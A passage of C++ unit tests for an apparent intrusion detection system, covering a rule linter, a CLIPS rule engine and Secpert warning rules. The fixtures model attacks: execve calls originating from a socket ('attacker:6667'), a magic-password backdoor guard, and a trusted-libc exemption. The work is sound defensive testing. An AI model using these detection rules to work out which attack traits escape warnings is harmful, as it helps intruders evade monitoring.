    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
    bool warned = false;
    for (const LintIssue &i : issues)
        if (!i.isError() && i.construct == "negrhs" &&
            i.message.find("?u") != std::string::npos)
            warned = true;
    EXPECT_TRUE(warned) << analysis::lintToString(issues);
}

TEST(Lint, NegationOverEarlierBindingIsQuiet)
{
    // The idiomatic once-only guard: ?f is bound by a positive
    // pattern first, the `not` merely re-uses it.
    auto issues = analysis::lintPolicy(
        "(defrule guard\n"
        "  (download (file ?f))\n"
        "  (not (seen (file ?f)))\n"
        " => (assert (seen (file ?f))))");
    EXPECT_TRUE(issues.empty()) << analysis::lintToString(issues);
}

TEST(Lint, HighSeverityWithoutEvidenceWarns)
{
    // A literal severity-3 warning from a rule that binds no slot
    // variable leaves --explain with a bare warning node: the
    // provenance walk has no facts to hang evidence off.
    auto issues = analysis::lintPolicy(
        "(defrule paranoid (alarm)\n"
        " => (hth-warn 3 \"paranoid\" 0 \"the sky is falling\"))");
    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
    bool warned = false;
    for (const LintIssue &i : issues)
        if (!i.isError() && i.construct == "paranoid" &&
            i.message.find("provenance") != std::string::npos)
            warned = true;
    EXPECT_TRUE(warned) << analysis::lintToString(issues);
}

TEST(Lint, HighSeverityWithBoundSlotIsQuiet)
{
    auto issues = analysis::lintPolicy(
        "(defrule grounded (alarm (pid ?pid))\n"
        " => (hth-warn 3 \"grounded\" ?pid \"evidence attached\"))");
    EXPECT_TRUE(issues.empty()) << analysis::lintToString(issues);
}

TEST(Lint, ForwardedSeverityIsQuiet)
{
    // Escalation plumbing computes or forwards its severity; the
    // evidence lives with whoever bound it, not here.
    auto issues = analysis::lintPolicy(
        "(defrule forwarder (escalate (level ?w))\n"
        " => (hth-warn ?w \"forwarder\" 0 \"pass through\"))");
    EXPECT_TRUE(issues.empty()) << analysis::lintToString(issues);
    // Even pattern-less forwarding stays quiet: the severity is not
    // the literal 3 the check keys on.
    auto issues2 = analysis::lintPolicy(
        "(defrule lowsev (alarm)\n"
        " => (hth-warn 2 \"lowsev\" 0 \"medium is fine\"))");
    EXPECT_TRUE(issues2.empty()) << analysis::lintToString(issues2);
}

TEST(Lint, ShippedPolicyIsClean)
{
    auto issues = analysis::lintPolicy(secpert::policyDeclarations() +
                                       secpert::policyRules());
    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
    EXPECT_TRUE(issues.empty()) << analysis::lintToString(issues);
}

TEST(Lint, SyntheticPolicyIsClean)
{
    // The policy-at-scale generator must emit rules the linter (and
    // hence the Rete compiler) is happy with, at any size.
    workloads::SyntheticPolicyConfig cfg;
    cfg.ruleCount = 200;
    auto issues = analysis::lintPolicy(secpert::policyDeclarations() +
                                       workloads::syntheticPolicy(cfg));
    EXPECT_TRUE(issues.empty()) << analysis::lintToString(issues);
}

// ---------------------------------------------------------------
// Hybrid static+dynamic rules through Secpert
// ---------------------------------------------------------------

harrier::StaticFindingEvent
magicGuardFinding(const std::string &image)
{
    harrier::StaticFindingEvent ev;
    ev.imagePath = image;
    ev.kind = "MAGIC_GUARD";
    ev.level = 2;
    ev.address = 64;
    ev.detail = "received bytes compared against constant 'p'";
    return ev;
}

harrier::ResourceIoEvent
socketRead(const std::string &binary)
{
    harrier::ResourceIoEvent ev;
    ev.ctx.pid = 7;
    ev.ctx.binaryPath = binary;
    ev.syscall = "SYS_recv";
    ev.isWrite = false;
    ev.source = {taint::SourceType::Socket, "remote:6667"};
    ev.targetName = binary;
    ev.targetType = taint::SourceType::Binary;
    return ev;
}

TEST(Hybrid, StaticFindingAloneNeverWarns)
{
    secpert::Secpert sec;
    sec.onStaticFinding(magicGuardFinding("/apps/bd"));
    EXPECT_TRUE(sec.warnings().empty());
    ASSERT_EQ(sec.staticFindings().size(), 1u);
    EXPECT_EQ(sec.staticFindings()[0].kind, "MAGIC_GUARD");
}

TEST(Hybrid, DynamicEventAloneDoesNotFireBackdoorRule)
{
    secpert::Secpert sec;
    sec.onResourceIo(socketRead("/apps/bd"));
    for (const secpert::Warning &w : sec.warnings())
        EXPECT_NE(w.rule, "static_backdoor_guard");
}

TEST(Hybrid, CombinationFiresBackdoorRuleOnce)
{
    secpert::Secpert sec;
    sec.onStaticFinding(magicGuardFinding("/apps/bd"));
    sec.onResourceIo(socketRead("/apps/bd"));
    // Repeated reads must not duplicate the warning.
    sec.onResourceIo(socketRead("/apps/bd"));

    size_t fired = 0;
    for (const secpert::Warning &w : sec.warnings())
        if (w.rule == "static_backdoor_guard") {
            ++fired;
            EXPECT_EQ(w.severity, secpert::Severity::Medium);
            EXPECT_NE(w.message.find("/apps/bd"),
                      std::string::npos);
        }
    EXPECT_EQ(fired, 1u);
}

TEST(Hybrid, MismatchedBinaryDoesNotJoin)
{
    secpert::Secpert sec;
    sec.onStaticFinding(magicGuardFinding("/apps/bd"));
    sec.onResourceIo(socketRead("/apps/other"));
    for (const secpert::Warning &w : sec.warnings())
        EXPECT_NE(w.rule, "static_backdoor_guard");
}

TEST(Hybrid, TrustedImageFindingsAreDropped)
{
    secpert::Secpert sec;
    sec.onStaticFinding(magicGuardFinding("/lib/tls/libc.so.6"));
    EXPECT_TRUE(sec.staticFindings().empty());
    sec.onResourceIo(socketRead("/lib/tls/libc.so.6"));
    for (const secpert::Warning &w : sec.warnings())
        EXPECT_NE(w.rule, "static_backdoor_guard");
}

TEST(Hybrid, DuplicateFindingsDeduplicated)
{
    secpert::Secpert sec;
    sec.onStaticFinding(magicGuardFinding("/apps/bd"));
    sec.onStaticFinding(magicGuardFinding("/apps/bd"));
    EXPECT_EQ(sec.staticFindings().size(), 1u);
}

// ---------------------------------------------------------------
// End-to-end: scenarios
// ---------------------------------------------------------------

TEST(EndToEnd, PmaBackdoorFlaggedAtLoadTimeAndHybridRuleFires)
{
    for (const Scenario &s : workloads::exploitScenarios()) {
        if (s.id != "pma")
            continue;
        workloads::ScenarioResult r = workloads::runScenario(s);

        // The magic-password guard is visible before execution.
        bool flagged = false;
        for (const secpert::StaticFinding &f : r.report.staticFindings)
            if (f.kind == "MAGIC_GUARD" && f.level >= 2)
                flagged = true;
        EXPECT_TRUE(flagged) << "pma magic guard not found statically";

        // ... and combines with the live socket read at run time.
        EXPECT_GE(r.report.countByRule("static_backdoor_guard"), 1u);

        // The paper's dynamic verdict is unchanged.
        EXPECT_TRUE(r.correct);
        return;
    }
    FAIL() << "pma scenario missing";
}

TEST(EndToEnd, CleanWorkloadsHaveNoMediumStaticFindings)
{
    std::vector<Scenario> all;
    for (auto &list : {workloads::executionFlowScenarios(),
                       workloads::resourceAbuseScenarios(),
                       workloads::infoFlowScenarios(),
                       workloads::macroScenarios(),
                       workloads::trustedProgramScenarios()})
        for (const Scenario &s : list)
            if (!s.expectMalicious)
                all.push_back(s);
    ASSERT_FALSE(all.empty());

    for (const Scenario &s : all) {
        workloads::ScenarioResult r = workloads::runScenario(s);
        for (const secpert::StaticFinding &f :
             r.report.staticFindings)
            EXPECT_LT(f.level, 2)
                << s.id << ": " << f.kind << " @" << f.address
                << " in " << f.image << " (" << f.detail << ")";
    }
}

} // namespace
} // namespace hth

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
