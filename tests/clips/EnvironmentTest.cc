/**
 * @file
 * Unit tests for the CLIPS engine: reader, values, facts, matching,
 * agenda behaviour, builtins and the embedding API.
 */

#include <gtest/gtest.h>

#include <sstream>

#include "clips/Environment.hh"
#include "clips/Sexpr.hh"
#include "support/Logging.hh"

using namespace hth;
using namespace hth::clips;

//
// Reader
//

TEST(SexprReader, ParsesAtoms)
{
    auto forms = parseSexprs("foo \"bar\" 42 -7 3.5 ?x $?y ?*g*");
    ASSERT_EQ(forms.size(), 8u);
    EXPECT_EQ(forms[0].kind, Sexpr::Kind::Symbol);
    EXPECT_EQ(forms[0].text, "foo");
    EXPECT_EQ(forms[1].kind, Sexpr::Kind::String);
    EXPECT_EQ(forms[1].text, "bar");
    EXPECT_EQ(forms[2].kind, Sexpr::Kind::Integer);
    EXPECT_EQ(forms[2].intValue, 42);
    EXPECT_EQ(forms[3].intValue, -7);
    EXPECT_EQ(forms[4].kind, Sexpr::Kind::Float);
    EXPECT_DOUBLE_EQ(forms[4].floatValue, 3.5);
    EXPECT_EQ(forms[5].kind, Sexpr::Kind::Variable);
    EXPECT_EQ(forms[5].text, "x");
    EXPECT_EQ(forms[6].kind, Sexpr::Kind::MultiVar);
    EXPECT_EQ(forms[6].text, "y");
    EXPECT_EQ(forms[7].kind, Sexpr::Kind::GlobalVar);
    EXPECT_EQ(forms[7].text, "g");
}

TEST(SexprReader, ParsesNestedLists)
{
    Sexpr e = parseOneSexpr("(a (b c) (d (e 1)))");
    ASSERT_TRUE(e.isList());
    ASSERT_EQ(e.items.size(), 3u);
    EXPECT_EQ(e.head(), "a");
    EXPECT_EQ(e.items[1].head(), "b");
    EXPECT_EQ(e.items[2].items[1].items[1].intValue, 1);
}

TEST(SexprReader, SkipsComments)
{
    auto forms = parseSexprs("; leading comment\n(a b) ; trailing\n");
    ASSERT_EQ(forms.size(), 1u);
    EXPECT_EQ(forms[0].head(), "a");
}

TEST(SexprReader, StringEscapes)
{
    Sexpr e = parseOneSexpr("\"a\\\"b\\nc\"");
    EXPECT_EQ(e.text, "a\"b\nc");
}

TEST(SexprReader, RejectsUnbalanced)
{
    EXPECT_THROW(parseSexprs("(a (b)"), FatalError);
    EXPECT_THROW(parseSexprs(")"), FatalError);
    EXPECT_THROW(parseSexprs("\"unclosed"), FatalError);
}

//
// Values
//

TEST(Value, EqualityIsTypeSensitive)
{
    EXPECT_EQ(Value::sym("a"), Value::sym("a"));
    EXPECT_NE(Value::sym("a"), Value::str("a"));
    EXPECT_NE(Value::integer(1), Value::real(1.0));
    EXPECT_EQ(Value::multi({Value::integer(1)}),
              Value::multi({Value::integer(1)}));
}

TEST(Value, MultifieldsFlatten)
{
    Value nested = Value::multi(
        {Value::integer(1),
         Value::multi({Value::integer(2), Value::integer(3)})});
    ASSERT_EQ(nested.items().size(), 3u);
    EXPECT_EQ(nested.items()[2], Value::integer(3));
}

TEST(Value, Truthiness)
{
    EXPECT_FALSE(Value::boolean(false).truthy());
    EXPECT_TRUE(Value::boolean(true).truthy());
    EXPECT_TRUE(Value::integer(0).truthy());
    EXPECT_TRUE(Value::sym("anything").truthy());
}

//
// Expression evaluation
//

class EvalTest : public ::testing::Test
{
  protected:
    Environment env;

    Value e(const std::string &src) { return env.evalString(src); }
};

TEST_F(EvalTest, Arithmetic)
{
    EXPECT_EQ(e("(+ 1 2 3)"), Value::integer(6));
    EXPECT_EQ(e("(- 10 4 1)"), Value::integer(5));
    EXPECT_EQ(e("(* 2 3 4)"), Value::integer(24));
    EXPECT_EQ(e("(/ 9 2)"), Value::real(4.5));
    EXPECT_EQ(e("(div 9 2)"), Value::integer(4));
    EXPECT_EQ(e("(mod 9 2)"), Value::integer(1));
    EXPECT_EQ(e("(+ 1 2.5)"), Value::real(3.5));
    EXPECT_EQ(e("(abs -4)"), Value::integer(4));
    EXPECT_EQ(e("(min 3 1 2)"), Value::integer(1));
    EXPECT_EQ(e("(max 3 1 2)"), Value::integer(3));
}

TEST_F(EvalTest, Comparison)
{
    EXPECT_TRUE(e("(< 1 2 3)").truthy());
    EXPECT_FALSE(e("(< 1 3 2)").truthy());
    EXPECT_TRUE(e("(>= 3 3 2)").truthy());
    EXPECT_TRUE(e("(= 2 2)").truthy());
    EXPECT_TRUE(e("(= 2 2.0)").truthy());
    EXPECT_TRUE(e("(<> 2 3)").truthy());
}

TEST_F(EvalTest, EqIsIdentity)
{
    EXPECT_TRUE(e("(eq FILE FILE)").truthy());
    EXPECT_FALSE(e("(eq FILE \"FILE\")").truthy());
    EXPECT_TRUE(e("(neq FILE SOCKET)").truthy());
    // eq compares first arg against all the rest.
    EXPECT_TRUE(e("(eq a a a)").truthy());
    EXPECT_FALSE(e("(eq a a b)").truthy());
}

TEST_F(EvalTest, BooleanConnectives)
{
    EXPECT_TRUE(e("(and TRUE TRUE)").truthy());
    EXPECT_FALSE(e("(and TRUE FALSE)").truthy());
    EXPECT_TRUE(e("(or FALSE TRUE)").truthy());
    EXPECT_FALSE(e("(or FALSE FALSE)").truthy());
    EXPECT_TRUE(e("(not FALSE)").truthy());
    EXPECT_FALSE(e("(not 17)").truthy());
}

TEST_F(EvalTest, ShortCircuit)
{
    // The unbound-variable error in the second operand must never be
    // reached.
    EXPECT_FALSE(e("(and FALSE (undefined-fn))").truthy());
    EXPECT_TRUE(e("(or TRUE (undefined-fn))").truthy());
}

TEST_F(EvalTest, StringOps)
{
    EXPECT_EQ(e("(str-cat \"a\" \"b\" 1)"), Value::str("ab1"));
    EXPECT_EQ(e("(sym-cat a b)"), Value::sym("ab"));
    EXPECT_EQ(e("(str-length \"abc\")"), Value::integer(3));
    EXPECT_EQ(e("(upcase \"abc\")"), Value::str("ABC"));
    EXPECT_EQ(e("(lowcase ABC)"), Value::sym("abc"));
    EXPECT_EQ(e("(str-index \"lo\" \"hello\")"), Value::integer(4));
    EXPECT_FALSE(e("(str-index \"xyz\" \"hello\")").truthy());
    EXPECT_EQ(e("(sub-string 2 4 \"hello\")"), Value::str("ell"));
}

TEST_F(EvalTest, MultifieldOps)
{
    EXPECT_EQ(e("(length$ (create$ a b c))"), Value::integer(3));
    EXPECT_EQ(e("(nth$ 2 (create$ a b c))"), Value::sym("b"));
    EXPECT_EQ(e("(member$ c (create$ a b c))"), Value::integer(3));
    EXPECT_FALSE(e("(member$ z (create$ a b c))").truthy());
    EXPECT_EQ(e("(first$ (create$ a b c))"),
              Value::multi({Value::sym("a")}));
    EXPECT_EQ(e("(rest$ (create$ a b c))"),
              Value::multi({Value::sym("b"), Value::sym("c")}));
    EXPECT_EQ(e("(subseq$ (create$ a b c d) 2 3)"),
              Value::multi({Value::sym("b"), Value::sym("c")}));
    EXPECT_TRUE(e("(empty-list (create$))").truthy());
    EXPECT_FALSE(e("(empty-list (create$ a))").truthy());
}

TEST_F(EvalTest, TypePredicates)
{
    EXPECT_TRUE(e("(numberp 1)").truthy());
    EXPECT_TRUE(e("(integerp 1)").truthy());
    EXPECT_FALSE(e("(integerp 1.5)").truthy());
    EXPECT_TRUE(e("(floatp 1.5)").truthy());
    EXPECT_TRUE(e("(stringp \"s\")").truthy());
    EXPECT_TRUE(e("(symbolp s)").truthy());
    EXPECT_TRUE(e("(multifieldp (create$))").truthy());
    EXPECT_TRUE(e("(evenp 4)").truthy());
    EXPECT_TRUE(e("(oddp 3)").truthy());
}

TEST_F(EvalTest, IfThenElse)
{
    EXPECT_EQ(e("(if (> 2 1) then 10 else 20)"), Value::integer(10));
    EXPECT_EQ(e("(if (> 1 2) then 10 else 20)"), Value::integer(20));
    // No else branch: false condition yields default value.
    EXPECT_EQ(e("(if (> 1 2) then 10)"), Value());
}

TEST_F(EvalTest, Gensym)
{
    Value a = e("(gensym)");
    Value b = e("(gensym)");
    EXPECT_NE(a, b);
}

TEST_F(EvalTest, UnknownFunctionIsFatal)
{
    EXPECT_THROW(e("(no-such-function 1)"), FatalError);
}

TEST_F(EvalTest, Globals)
{
    env.loadString("(defglobal ?*x* = 5 ?*name* = \"hth\")");
    EXPECT_EQ(e("?*x*"), Value::integer(5));
    EXPECT_EQ(e("(+ ?*x* 1)"), Value::integer(6));
    EXPECT_EQ(env.getGlobal("name"), Value::str("hth"));
    env.setGlobal("x", Value::integer(9));
    EXPECT_EQ(e("?*x*"), Value::integer(9));
}

TEST_F(EvalTest, BindGlobal)
{
    env.loadString("(defglobal ?*x* = 1)");
    e("(bind ?*x* 42)");
    EXPECT_EQ(env.getGlobal("x"), Value::integer(42));
}

TEST_F(EvalTest, Deffunction)
{
    env.loadString(
        "(deffunction double-it (?x) (* ?x 2))"
        "(deffunction sum-all ($?xs)"
        "  (bind ?acc 0)"
        "  (bind ?i 1)"
        "  (while (<= ?i (length$ ?xs)) do"
        "    (bind ?acc (+ ?acc (nth$ ?i ?xs)))"
        "    (bind ?i (+ ?i 1)))"
        "  ?acc)");
    EXPECT_EQ(e("(double-it 21)"), Value::integer(42));
    EXPECT_EQ(e("(sum-all 1 2 3 4)"), Value::integer(10));
    EXPECT_EQ(e("(sum-all)"), Value::integer(0));
}

TEST_F(EvalTest, NativeFunctionRegistration)
{
    env.registerFunction("twice",
                         [](Environment &, std::vector<Value> &args) {
                             return Value::integer(
                                 args.at(0).intValue() * 2);
                         });
    EXPECT_EQ(e("(twice 8)"), Value::integer(16));
}

//
// Facts
//

class FactTest : public ::testing::Test
{
  protected:
    void
    SetUp() override
    {
        env.loadString(
            "(deftemplate person"
            "  (slot name)"
            "  (slot age (default 0))"
            "  (multislot hobbies))");
    }

    Environment env;
};

TEST_F(FactTest, AssertAndQuery)
{
    FactId id = env.assertString(
        "(person (name \"ada\") (age 36) (hobbies math code))");
    const Fact *f = env.fact(id);
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->slot("name"), Value::str("ada"));
    EXPECT_EQ(f->slot("age"), Value::integer(36));
    EXPECT_EQ(f->slot("hobbies").items().size(), 2u);
}

TEST_F(FactTest, DefaultsApply)
{
    FactId id = env.assertString("(person (name \"bob\"))");
    const Fact *f = env.fact(id);
    EXPECT_EQ(f->slot("age"), Value::integer(0));
    EXPECT_TRUE(f->slot("hobbies").items().empty());
}

TEST_F(FactTest, Retract)
{
    FactId id = env.assertString("(person (name \"eve\"))");
    EXPECT_TRUE(env.retract(id));
    EXPECT_EQ(env.fact(id), nullptr);
    EXPECT_FALSE(env.retract(id));
    EXPECT_EQ(env.liveFactCount(), 0u);
}

TEST_F(FactTest, OrderedFacts)
{
    env.assertString("(colour red)");
    env.assertString("(colour green)");
    EXPECT_EQ(env.factsByTemplate("colour").size(), 2u);
}

TEST_F(FactTest, ProgrammaticAssert)
{
    FactId id = env.assertFact(
        "person", {{"name", Value::str("carol")},
                   {"hobbies", Value::multi({Value::sym("chess")})}});
    const Fact *f = env.fact(id);
    EXPECT_EQ(f->slot("name"), Value::str("carol"));
    EXPECT_EQ(f->slot("hobbies").items().size(), 1u);
}

TEST_F(FactTest, ScalarIntoMultislotIsWrapped)
{
    FactId id = env.assertFact("person",
                               {{"hobbies", Value::sym("go")}});
    EXPECT_EQ(env.fact(id)->slot("hobbies"),
              Value::multi({Value::sym("go")}));
}

TEST_F(FactTest, ClearFacts)
{
    env.assertString("(person (name \"a\"))");
    env.assertString("(person (name \"b\"))");
    env.clearFacts();
    EXPECT_EQ(env.liveFactCount(), 0u);
    EXPECT_NE(env.findTemplate("person"), nullptr);
}

TEST_F(FactTest, UnknownSlotIsFatal)
{
    EXPECT_THROW(env.assertString("(person (height 180))"),
                 FatalError);
}

//
// Rules and inference
//

TEST(RuleTest, SimpleFire)
{
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(
        "(deftemplate ping (slot n))"
        "(defrule on-ping"
        "  (ping (n ?n))"
        "  =>"
        "  (printout t \"got \" ?n crlf))");
    env.assertString("(ping (n 7))");
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(out.str(), "got 7\n");
}

TEST(RuleTest, RefractionPreventsRefire)
{
    Environment env;
    env.loadString(
        "(deftemplate ping (slot n))"
        "(defrule on-ping (ping (n ?n)) => (bind ?x 1))");
    env.assertString("(ping (n 1))");
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(env.run(), 0); // same fact: refraction blocks refiring
    env.assertString("(ping (n 1))"); // new fact id → fires again
    EXPECT_EQ(env.run(), 1);
}

TEST(RuleTest, JoinAcrossPatterns)
{
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(
        "(deftemplate parent (slot of) (slot is))"
        "(defrule grandparent"
        "  (parent (of ?kid) (is ?p))"
        "  (parent (of ?p) (is ?gp))"
        "  =>"
        "  (printout t ?gp \" is grandparent of \" ?kid crlf))");
    env.assertString("(parent (of alice) (is bob))");
    env.assertString("(parent (of bob) (is carol))");
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(out.str(), "carol is grandparent of alice\n");
}

TEST(RuleTest, TestCE)
{
    Environment env;
    env.loadString(
        "(deftemplate item (slot weight))"
        "(defrule heavy (item (weight ?w)) (test (> ?w 10)) =>"
        "  (assert (flagged heavy)))");
    env.assertString("(item (weight 5))");
    env.run();
    EXPECT_TRUE(env.factsByTemplate("flagged").empty());
    env.assertString("(item (weight 15))");
    env.run();
    EXPECT_EQ(env.factsByTemplate("flagged").size(), 1u);
}

TEST(RuleTest, NotCE)
{
    Environment env;
    env.loadString(
        "(deftemplate task (slot id))"
        "(deftemplate done (slot id))"
        "(defrule pending"
        "  (task (id ?i))"
        "  (not (done (id ?i)))"
        "  =>"
        "  (assert (report ?i)))");
    env.assertString("(task (id 1))");
    env.assertString("(task (id 2))");
    env.assertString("(done (id 1))");
    env.run();
    auto reports = env.factsByTemplate("report");
    ASSERT_EQ(reports.size(), 1u);
    EXPECT_EQ(reports[0]->slots[0].items()[0], Value::integer(2));
}

TEST(RuleTest, SalienceOrdersFiring)
{
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(
        "(deftemplate go (slot x))"
        "(defrule low (declare (salience -10)) (go (x ?))"
        "  => (printout t \"low \"))"
        "(defrule high (declare (salience 10)) (go (x ?))"
        "  => (printout t \"high \"))"
        "(defrule mid (go (x ?)) => (printout t \"mid \"))");
    env.assertString("(go (x 1))");
    EXPECT_EQ(env.run(), 3);
    EXPECT_EQ(out.str(), "high mid low ");
}

TEST(RuleTest, FactAddressRetract)
{
    Environment env;
    env.loadString(
        "(deftemplate evt (slot kind))"
        "(defrule consume"
        "  ?e <- (evt (kind ?k))"
        "  =>"
        "  (retract ?e)"
        "  (assert (seen ?k)))");
    env.assertString("(evt (kind open))");
    env.assertString("(evt (kind close))");
    EXPECT_EQ(env.run(), 2);
    EXPECT_EQ(env.factsByTemplate("evt").size(), 0u);
    EXPECT_EQ(env.factsByTemplate("seen").size(), 2u);
}

TEST(RuleTest, MultifieldPatternBinding)
{
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(
        "(deftemplate bag (multislot items))"
        "(defrule has-middle"
        "  (bag (items $?before x $?after))"
        "  =>"
        "  (printout t (length$ ?before) \":\" (length$ ?after)))");
    env.assertString("(bag (items a b x c))");
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(out.str(), "2:1");
}

TEST(RuleTest, MultifieldVarSharedAcrossSlots)
{
    Environment env;
    env.loadString(
        "(deftemplate pairx (multislot lhs) (multislot rhs))"
        "(defrule same (pairx (lhs $?x) (rhs $?x)) =>"
        "  (assert (matched)))");
    env.assertString("(pairx (lhs a b) (rhs a b))");
    env.assertString("(pairx (lhs a b) (rhs a c))");
    env.run();
    EXPECT_EQ(env.factsByTemplate("matched").size(), 1u);
}

TEST(RuleTest, OrderedFactPatterns)
{
    Environment env;
    env.loadString(
        "(defrule pick (colour ?c) => (assert (picked ?c)))");
    env.assertString("(colour red)");
    env.run();
    auto picked = env.factsByTemplate("picked");
    ASSERT_EQ(picked.size(), 1u);
    EXPECT_EQ(picked[0]->slots[0].items()[0], Value::sym("red"));
}

TEST(RuleTest, ChainedInference)
{
    // Transitive closure via rules: the engine loops to fixpoint.
    Environment env;
    env.loadString(
        "(deftemplate edge (slot from) (slot to))"
        "(deftemplate path (slot from) (slot to))"
        "(defrule base (edge (from ?a) (to ?b)) =>"
        "  (assert (path (from ?a) (to ?b))))"
        "(defrule trans (path (from ?a) (to ?b)) (edge (from ?b) (to ?c))"
        "  => (assert (path (from ?a) (to ?c))))");
    env.assertString("(edge (from 1) (to 2))");
    env.assertString("(edge (from 2) (to 3))");
    env.assertString("(edge (from 3) (to 4))");
    env.run();
    // paths: 1-2 2-3 3-4 1-3 2-4 1-4 (duplicates asserted as separate
    // facts are possible; count unique pairs)
    std::set<std::pair<int, int>> uniq;
    for (const Fact *f : env.factsByTemplate("path"))
        uniq.insert({(int)f->slot("from").intValue(),
                     (int)f->slot("to").intValue()});
    EXPECT_EQ(uniq.size(), 6u);
}

TEST(RuleTest, MaxFiresBound)
{
    Environment env;
    env.loadString(
        "(defrule spin (tick ?n) => (assert (tick (+ ?n 1))))");
    env.assertString("(tick 0)");
    EXPECT_EQ(env.run(5), 5);
}

TEST(RuleTest, FireTraceRecordsRuleNames)
{
    Environment env;
    env.loadString(
        "(deftemplate a (slot x))"
        "(defrule ra (a (x ?)) => (bind ?y 0))");
    env.assertString("(a (x 1))");
    env.run();
    ASSERT_EQ(env.fireTrace().size(), 1u);
    EXPECT_EQ(env.fireTrace()[0].rule, "ra");
}

//
// The paper's Appendix A execve rule, nearly verbatim.
//

class PaperRuleTest : public ::testing::Test
{
  protected:
    void
    SetUp() override
    {
        env.setOutput(&out);
        // Trusted-library filters as native functions, mirroring the
        // Secpert embedding (App. A.2).
        env.registerFunction(
            "filter_binary",
            [](Environment &, std::vector<Value> &args) {
                std::vector<Value> suspicious;
                const auto &types = args.at(0).items();
                const auto &names = args.at(1).items();
                for (size_t i = 0; i < types.size(); ++i) {
                    if (types[i] == Value::sym("BINARY") &&
                        names[i].text().find("libc.so") ==
                            std::string::npos)
                        suspicious.push_back(names[i]);
                }
                return Value::multi(std::move(suspicious));
            });
        env.registerFunction(
            "filter_socket",
            [](Environment &, std::vector<Value> &args) {
                std::vector<Value> suspicious;
                const auto &types = args.at(0).items();
                const auto &names = args.at(1).items();
                for (size_t i = 0; i < types.size(); ++i)
                    if (types[i] == Value::sym("SOCKET"))
                        suspicious.push_back(names[i]);
                return Value::multi(std::move(suspicious));
            });
        env.registerFunction(
            "print-warning",
            [this](Environment &, std::vector<Value> &args) {
                lastWarning = (int)args.at(0).intValue();
                return Value::boolean(true);
            });
        env.loadString(R"CLP(
(defglobal ?*RARE_FREQUENCY* = 3 ?*LONG_TIME* = 100 ?*TAB* = "    ")

(deftemplate system_call_access
  (slot system_call_name)
  (multislot resource_name)
  (multislot resource_type)
  (multislot resource_origin_name)
  (multislot resource_origin_type)
  (slot time)
  (slot frequency)
  (slot address))

(deftemplate resolution (slot status))
(deftemplate system_call_name (slot name))

(defrule check_execve "check execve"
  ?execve <- (system_call_access
               (system_call_name ?sys_name)
               (resource_name $?name)
               (resource_type $?type)
               (resource_origin_name $?origin_name)
               (resource_origin_type $?origin_type)
               (time ?time)
               (frequency ?freq)
               (address ?addr))
  ?resolution <- (resolution (status RESOLVE))
  (system_call_name (name ?sys_name))
  (test (eq ?sys_name SYS_execve))
  (test (or (not (empty-list
                   (filter_binary $?origin_type $?origin_name)))
            (not (empty-list
                   (filter_socket $?origin_type $?origin_name)))))
  =>
  (bind ?suspicous_binaries
        (filter_binary $?origin_type $?origin_name))
  (bind ?suspicous_sockets
        (filter_socket $?origin_type $?origin_name))
  (bind ?warning 1)
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
    (bind ?warning 2))
  (if (not (empty-list ?suspicous_sockets)) then
    (bind ?warning 3))
  (print-warning ?warning)
  (printout t "Found " ?sys_name " call " ?name crlf)
  (if (not (empty-list ?suspicous_binaries)) then
    (printout t ?*TAB* ?name " originated from "
              ?suspicous_binaries crlf)
   else
    (printout t ?*TAB* ?name " originated from "
              ?suspicous_sockets crlf))
  (retract ?execve ?resolution)
  (assert (resolution (status STOP))))
)CLP");
        env.assertString("(system_call_name (name SYS_execve))");
    }

    void
    assertExecve(const std::string &origin_type,
                 const std::string &origin_name, int time, int freq)
    {
        env.assertString("(resolution (status RESOLVE))");
        env.assertString(
            "(system_call_access (system_call_name SYS_execve)"
            " (resource_name \"/bin/ls\") (resource_type FILE)"
            " (resource_origin_name \"" + origin_name + "\")"
            " (resource_origin_type " + origin_type + ")"
            " (time " + std::to_string(time) + ")"
            " (frequency " + std::to_string(freq) + ")"
            " (address \"8048403\"))");
    }

    Environment env;
    std::ostringstream out;
    int lastWarning = 0;
};

TEST_F(PaperRuleTest, HardcodedBinaryIsLowWarning)
{
    assertExecve("BINARY", "/tmp/execve.exe", 33, 5);
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(lastWarning, 1); // Low
    EXPECT_NE(out.str().find("Found SYS_execve call /bin/ls"),
              std::string::npos);
    // Event and resolution consumed, STOP asserted.
    EXPECT_TRUE(env.factsByTemplate("system_call_access").empty());
    auto res = env.factsByTemplate("resolution");
    ASSERT_EQ(res.size(), 1u);
    EXPECT_EQ(res[0]->slot("status"), Value::sym("STOP"));
}

TEST_F(PaperRuleTest, InfrequentHardcodedIsMediumWarning)
{
    assertExecve("BINARY", "/tmp/execve.exe", 500, 1);
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(lastWarning, 2); // Medium: rare code, long-running
}

TEST_F(PaperRuleTest, SocketOriginIsHighWarning)
{
    assertExecve("SOCKET", "attacker:6667", 33, 5);
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(lastWarning, 3); // High
}

TEST_F(PaperRuleTest, TrustedLibcIsFilteredOut)
{
    // The ElmExploit case from §8.3.1: /bin/sh string lives in
    // trusted libc.so, so the rule must not fire at all.
    assertExecve("BINARY", "/lib/tls/libc.so.6", 108, 1);
    EXPECT_EQ(env.run(), 0);
    EXPECT_EQ(lastWarning, 0);
}

TEST_F(PaperRuleTest, UserInputDoesNotFire)
{
    assertExecve("USER_INPUT", "", 33, 5);
    EXPECT_EQ(env.run(), 0);
    EXPECT_EQ(lastWarning, 0);
}

//
// Match strategy (incremental vs naive)
//

namespace
{

/** A two-rule program whose fire order exercises joins, salience
 * and retraction; output is the observable fire trace. */
const char *STRATEGY_PROGRAM =
